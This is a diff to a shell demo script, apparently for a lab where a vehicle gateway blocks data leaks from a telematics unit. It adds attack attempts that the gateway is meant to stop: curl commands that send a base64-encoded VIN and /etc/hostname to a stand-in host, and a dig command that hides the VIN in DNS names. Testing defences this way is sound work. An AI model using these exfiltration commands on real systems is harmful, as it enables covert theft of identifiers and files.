@@ -5,6 +5,8 @@
 . "$LAB_LIB"
 set -u
 ACT=0 FAILED=0
+VIN=SALLYPRT0VAN00042 # the one that the attempts of attack.def carry
+REPORTS=other.fleet.example
 BOLD='' GREEN='' RED='' DIM='' PLAIN=''
 if [ "${DEMO_COLOUR:-}" = 1 ]; then
     BOLD=$'\e[1m' GREEN=$'\e[32m' RED=$'\e[31m' DIM=$'\e[2m' PLAIN=$'\e[0m'
@@ -60,24 +62,31 @@ from unit to vehicle {
 }
 uplink {
     resolver $RESOLVER4
-    pass tls "$TELEMETRY" port 443 up 2MB/day down 10MB/day
-    deny otherwise reset
+    secret vin "$VIN"
+    pass tls  "$TELEMETRY" port 443 up 2MB/day down 10MB/day
+    pass http "$REPORTS" port 80 request "POST" "/v1/report" body 1kB
+    pass tls  "*.maps.example" port 443 names 2/hour
+    deny otherwise decoy
 }
 EOF
 }
 
+# try SENTENCE REASON COMMAND   for sh, in the unit's network namespace.
+try() {
+    act "The unit $1."
+    tell "$ $3"
+    unit sh -c "$3" >$LAB/attempt.out 2>&1
+    lab_wait 4 is_recorded "$2"
+    outcome $? "stopped, and recorded as $2: $(explain)"
+}
+
 # attempt NAME   a row of 'sallyport-sim attack --table'.
 attempt() {
-    local name reason side trace sentence command
-    IFS=$'\t' read -r name reason side trace sentence command \
+    local reason side trace sentence command before
+    IFS=$'\t' read -r _ reason side trace sentence command \
         < <(sallyport-sim attack --table | grep "^$1	")
-    act "The unit $sentence."
-    tell "$ $command"
-    local before
     before=$(traces "$side" "$trace")
-    unit sallyport-sim attack "$name" >$LAB/attempt.out 2>&1
-    lab_wait 4 is_recorded "$reason"
-    outcome $? "stopped, and recorded as $reason: $(explain "$reason")"
+    try "$sentence" "$reason" "$command"
     [ "$(traces "$side" "$trace")" = "$before" ]
     outcome $? "nothing of it was seen $([ "$side" = net ] && echo 'on the cable to the cloud' || echo "on the vehicle's bus")"
 }
@@ -91,8 +100,11 @@ traces() {
     fi
 }
 
-is_recorded() { lab_log --json --reason "$1" | grep -q '"verdict":"stopped"'; }
-explain() { lab_log --json --reason "$1" | sed -n '1s/.*"sentence":"\([^"]*\)".*/\1/p'; }
+is_recorded() { lab_log --json --reason "$1" >$LAB/recorded && grep -q '"verdict":"stopped"' $LAB/recorded; }
+explain() { sed -n '1s/.*"sentence":"\([^"]*\)".*/\1/p' $LAB/recorded; }
+
+# What the unit said there, as the decoy kept it: the line that has it.
+heard() { lab_log --json --all --reason decoy_kept | grep -oF -m1 "$1"; }
 
 printf '%sSallyport: a vehicle, its telematics unit, and the gateway between them%s\n' "$BOLD" "$PLAIN"
 tell "The lab runs $([ "$LAB_WORLD" = uml ] && echo "in a User Mode Linux kernel of its own" || echo "on this kernel")."
@@ -107,7 +119,7 @@ act "The gateway is fitted, with a signed policy: what it does not name does not
 lab_gateway_files && lab_policy $LAB/demo.policy >$LAB/compile.out 2>&1 && lab_gateway_start
 outcome $? "in service: $(lab_status | head -1)"
 [ -z "${DRIVE:-}" ] || tell "It gives the unit the three ids that the recording has most often:"
-grep -E '^    (id|pass)' $LAB/demo.policy | sed 's/^    //' | show
+grep -E '^    (id|secret|pass|deny)' $LAB/demo.policy | sed 's/^    //' | show
 
 if [ -n "${DRIVE:-}" ]; then
     act "The vehicle drives: the recording ${DRIVE##*/}, at its own pace."
@@ -144,7 +156,26 @@ show <$LAB/honest.out
 [ $code = 0 ] && grep -q "received 8 bytes" $LAB/honest.out
 outcome $? "the cloud has it, and its answer came back"
 
-for name in hard_coded_address forbidden_name foreign_resolver plain_tcp icmp obd_vin unlock; do
+attempt plain_http
+tell "It believed to be connected: a decoy had taken the connection."
+lab_wait 8 heard "vin=$VIN"
+outcome $? "what it said to the decoy is kept as evidence: vin=$VIN"
+
+try "hides the VIN in a report that it may send" secret_found \
+    "curl -4s -m 5 -d id=$(printf %s "$VIN" | base64) http://$REPORTS/v1/report"
+try "sends to the same server what is no report" request_not_allowed \
+    "curl -4s -m 5 -T /etc/hostname http://$REPORTS/v1/upload"
+seen=$(lab_seen -A tcp port 80)
+[ -n "$seen" ] && ! grep -qE 'HTTP/1|id=' <<<"$seen"
+outcome $? "the connections were seen on the cable to the cloud, and not a line of either"
+
+try "asks for one name after another below a zone that it may ask for" name_budget_spent \
+    "dig +tries=1 +time=2 $(printf %s "$VIN" | od -An -tx1 -w5 | sed 's/ //g; s/$/.maps.example/' | paste -sd' ')"
+count=$(grep -c '^dns .*\.maps\.example' $LAB/cloud.out)
+[ "$count" = 2 ]
+outcome $? "$count names were asked for, as many as an hour has, and no more"
+
+for name in forbidden_name foreign_resolver icmp obd_vin unlock; do
     attempt $name
 done
 
